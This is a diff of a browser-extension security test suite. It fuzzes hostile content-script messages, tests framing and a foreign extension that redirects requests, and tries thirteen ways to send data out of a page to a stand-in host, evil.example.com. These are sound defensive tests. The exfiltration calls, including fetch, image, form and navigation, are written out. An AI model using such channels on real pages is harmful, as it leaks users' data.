@@ -12,7 +12,7 @@ import { useConnectedStory } from '../../harness/use-story.ts';
 import { waitFor } from '../../harness/wait-for.ts';
 import { ids } from '../../sandbox/seed.ts';
 
-// What a page, a taken-over content script, another extension and a hostile module of our own can do.
+// Attacks by a page, a taken-over content script, another extension and a hostile module of the extension.
 
 const story = useConnectedStory();
 
@@ -24,12 +24,12 @@ const stored = () =>
   ]).then((areas) => JSON.stringify(areas.map((area) =>
     Object.entries(area).filter(([name]) => !/^(card-token:|shown-pages$)/.test(name)).sort())))`);
 
-/** Messages as a taken-over content script might send them: proper requests, broken ones and anything else. */
+/** Creates messages that a taken-over content script might send: valid requests, invalid ones and random values. */
 function hostileMessages(count: number): { name?: unknown }[] {
   const { alder: organizationId } = ids.organizations;
   const uuid = '00000000-0000-4000-8000-000000000009';
   const deal = { opportunityId: ids.sampleDeal, organizationId, leadName: 'Planted', leadId: ids.sampleLead };
-  const proper = {
+  const valid = {
     ...{
       ...deal,
       id: uuid,
@@ -44,13 +44,13 @@ function hostileMessages(count: number): { name?: unknown }[] {
     ...{ pins: { planted: ['value'] }, asksBeforeSaving: true, references: [] },
   };
   const names = Object.keys({ ...contentScriptRequests, ...ownPageRequests });
-  const part = fc.oneof(fc.constantFrom(...Object.values(proper)), fc.jsonValue({ maxDepth: 2 }));
+  const part = fc.oneof(fc.constantFrom(...Object.values(valid)), fc.jsonValue({ maxDepth: 2 }));
   const input = fc.oneof(
-    fc.constant(proper),
+    fc.constant(valid),
     fc
-      .tuple(fc.constantFrom(...Object.keys(proper)), part)
-      .map(([key, value]) => ({ ...proper, [key]: value })),
-    fc.subarray(Object.entries(proper)).map((entries) => Object.fromEntries(entries)),
+      .tuple(fc.constantFrom(...Object.keys(valid)), part)
+      .map(([key, value]) => ({ ...valid, [key]: value })),
+    fc.subarray(Object.entries(valid)).map((entries) => Object.fromEntries(entries)),
     fc.jsonValue({ maxDepth: 2 }),
   );
   const name = fc.oneof(
@@ -69,10 +69,10 @@ function hostileMessages(count: number): { name?: unknown }[] {
   return fc.sample(message, { numRuns: count, seed: 7 }) as { name?: unknown }[];
 }
 
-it('10 000 messages from a content script change nothing, ask nothing of Close and end nothing', async () => {
+it('10 000 messages from a content script change nothing, cause no request to Close and stop nothing', async () => {
   const page = await story.newPage(leadPage());
   const asContentScript = await contentScriptOf(page);
-  // What the page itself sets off is over, its chip being there.
+  // The button shows that the page's own requests are done.
   await chipOn(page);
   const before = await stored();
   await story.evaluateInWorker('globalThis.mark = 1');
@@ -91,7 +91,7 @@ it('10 000 messages from a content script change nothing, ask nothing of Close a
   expect(story.sandbox.strayRequests).toEqual([]);
 });
 
-/** Puts each address into a frame of its own and says which of them show anything. */
+/** Loads each address in a separate frame. Returns the addresses that were displayed. */
 async function frameEach(page: Page, addresses: readonly string[]): Promise<string[]> {
   await page.evaluate(async (sources) => {
     const frames = sources.map((source) => Object.assign(document.createElement('iframe'), { src: source }));
@@ -130,7 +130,7 @@ it('lets no page frame a file of the package, except Close the card', async () =
   await Promise.all([foreign.close(), close.close()]);
 });
 
-it('shows another extension none of its requests, whatever rights that has', async () => {
+it('another extension sees no requests of this one, whatever its rights', async () => {
   const foreignId = await story.browser.installExtension(join(import.meta.dirname, 'foreign-extension'));
   const target = await story.browser.waitForTarget(
     (each) => each.type() === 'service_worker' && each.url().includes(foreignId),
@@ -140,8 +140,8 @@ it('shows another extension none of its requests, whatever rights that has', asy
   await foreign.evaluate('ready');
   const seen = async () => (await foreign.evaluate('seen')) as string[];
   const page = await story.newPage(leadPage());
-  await waitFor('its own look at the page', async () => (await seen()).includes(leadPage()));
-  // What a page asks for, it sees and sends elsewhere.
+  await waitFor('the page request', async () => (await seen()).includes(leadPage()));
+  // It sees and redirects requests of pages.
   const plain = await story.newPage('https://plain.example.com/');
   await plain.evaluate("fetch('https://api.close.com/api/v1/me/', { mode: 'no-cors' }).catch(() => {})");
   await waitFor('the redirect', async () => (await seen()).includes('https://plain.example.com/stolen'));
@@ -157,7 +157,7 @@ it('shows another extension none of its requests, whatever rights that has', asy
   await story.browser.uninstallExtension(foreignId);
 });
 
-/** Ways to carry something out of a page, each settled once it was sent or failed. */
+/** Ways to send data out of a page, each settled once it was sent or failed. */
 const waysOut = `({ address, ending, element }) => ({
   fetch: () => fetch(address),
   image: () => element('img', { src: address }),
@@ -178,21 +178,21 @@ const waysOut = `({ address, ending, element }) => ({
   },
 })`;
 
-/** Tries each of these ways from a page and returns their names once each was sent, has failed or was refused. */
+/** Tries each way from a page. Returns their names once each was sent, has failed or was refused. */
 async function tryWaysOut(page: Page): Promise<string[]> {
   return (await page.evaluate(`(() => {
     const ending = (source) => new Promise((resolve) => {
       for (const type of ['load', 'error', 'open']) source.addEventListener(type, resolve);
     });
-    const element = (name, properties) => {
-      const made = Object.assign(document.createElement(name), properties);
+    const element = (name, validties) => {
+      const made = Object.assign(document.createElement(name), validties);
       document.body.append(made);
       return ending(made);
     };
     const names = Object.keys((${waysOut})({}));
     return Promise.all(names.map(async (name) => {
       const address = 'https://evil.example.com/' + name + '?key';
-      // The browser tells the document of refusals that it does not tell the one who asked.
+      // The browser reports some refusals only to the document, not to the caller.
       const refusal = new Promise((resolve) =>
         document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
           if (blockedURI.includes('evil.example.com/' + name)) resolve();
@@ -210,13 +210,13 @@ function arrivals(): string[] {
   return [...paths].sort();
 }
 
-it('lets a hostile module of its own send nothing out, but by leaving the page', async () => {
+it('a hostile module in the extension cannot send data out, except by navigation', async () => {
   const page = await story.openExtensionPage('options.html');
   const tried = await tryWaysOut(page);
   expect(tried).toHaveLength(13);
   const fromWorker = "fetch('https://evil.example.com/worker').then(() => 'sent', () => 'refused')";
   expect(await story.evaluateInWorker(fromWorker)).toBe('refused');
-  // No policy holds a page back from leaving, which is why the package is searched for that.
+  // No policy prevents navigation, so the package is searched for it instead.
   await page.evaluate("location.href = 'https://evil.example.com/navigation?key'");
   await waitFor('the navigation', () => story.sandbox.strayRequests.length > 0);
   // Its request arrives before the page is left, which ends all other attempts.
@@ -226,12 +226,12 @@ it('lets a hostile module of its own send nothing out, but by leaving the page',
       .catch(() => false),
   );
   expect(arrivals()).toEqual(['navigation']);
-  // Where that page came to there is no policy: every way that was tried arrives from there, and is counted.
+  // The other page has no policy, so every way works there. This proves that the attempts are real.
   story.sandbox.strayRequests.length = 0;
   // Not awaited, because some of the messages get no answer.
   void tryWaysOut(page).catch(() => {});
   await waitFor('the form', () => arrivals().includes('form'));
-  // It opened a tab, and a page behind another one loads no media.
+  // The form opened a tab, and background pages load no media.
   await page.bringToFront();
   await waitFor('every way out', () => arrivals().length === tried.length);
   expect(arrivals()).toEqual([...tried].sort());
